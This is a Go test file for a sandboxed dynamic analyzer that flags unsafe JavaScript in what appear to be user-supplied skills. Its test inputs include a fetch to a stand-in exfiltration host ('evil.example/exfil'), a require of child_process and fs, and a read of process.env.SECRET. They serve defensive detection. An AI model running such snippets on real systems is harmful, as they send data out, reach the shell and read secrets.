package skill

import (
	"context"
	"testing"
	"time"
)

func TestAnalyzeDynamic_BenignCodeIsSafe(t *testing.T) {
	result := AnalyzeDynamic(context.Background(), `var x = 1 + 1;`, time.Second)
	if !result.Safe {
		t.Fatalf("expected benign code to be safe, got %+v", result)
	}
}

func TestAnalyzeDynamic_FetchIsTrappedAndRecorded(t *testing.T) {
	result := AnalyzeDynamic(context.Background(), `fetch("https://evil.example/exfil");`, time.Second)
	if result.Safe {
		t.Fatalf("expected a fetch attempt to mark the run unsafe")
	}
	if len(result.NetworkAttempts) != 1 || result.NetworkAttempts[0] != "https://evil.example/exfil" {
		t.Fatalf("expected the fetch URL recorded, got %v", result.NetworkAttempts)
	}
}

func TestAnalyzeDynamic_RequireFilesystemModuleIsTrapped(t *testing.T) {
	result := AnalyzeDynamic(context.Background(), `var fs = require("fs");`, time.Second)
	if result.Safe {
		t.Fatalf("expected requiring fs to mark the run unsafe")
	}
	if len(result.FSAttempts) == 0 {
		t.Fatalf("expected an fs attempt recorded, got %v", result.FSAttempts)
	}
}

func TestAnalyzeDynamic_RequireDangerousModuleThrows(t *testing.T) {
	result := AnalyzeDynamic(context.Background(), `require("child_process");`, time.Second)
	if result.Safe {
		t.Fatalf("expected requiring child_process to mark the run unsafe")
	}
	found := false
	for _, s := range result.SuspiciousBehavior {
		if s == "Attempted to require dangerous module: child_process" {
			found = true
		}
	}
	if !found {
		t.Fatalf("expected dangerous-module suspicious behavior recorded, got %v", result.SuspiciousBehavior)
	}
}

func TestAnalyzeDynamic_ProcessEnvAccessIsTrapped(t *testing.T) {
	result := AnalyzeDynamic(context.Background(), `var p = process.env.SECRET;`, time.Second)
	if result.Safe {
		t.Fatalf("expected process.env access to mark the run unsafe")
	}
}

func TestAnalyzeDynamic_BufferAllocClamped(t *testing.T) {
	result := AnalyzeDynamic(context.Background(), `Buffer.alloc(10 * 1024 * 1024);`, time.Second)
	if result.Safe {
		t.Fatalf("expected an oversized Buffer.alloc to be flagged suspicious")
	}
}

func TestAnalyzeDynamic_TimeoutReportsInfiniteLoop(t *testing.T) {
	result := AnalyzeDynamic(context.Background(), `while (true) {}`, 50*time.Millisecond)
	if result.Safe {
		t.Fatalf("expected a timed-out infinite loop to be flagged unsafe")
	}
	found := false
	for _, s := range result.SuspiciousBehavior {
		if s == "Execution timed out - possible infinite loop" {
			found = true
		}
	}
	if !found {
		t.Fatalf("expected timeout suspicious behavior recorded, got %v", result.SuspiciousBehavior)
	}
}
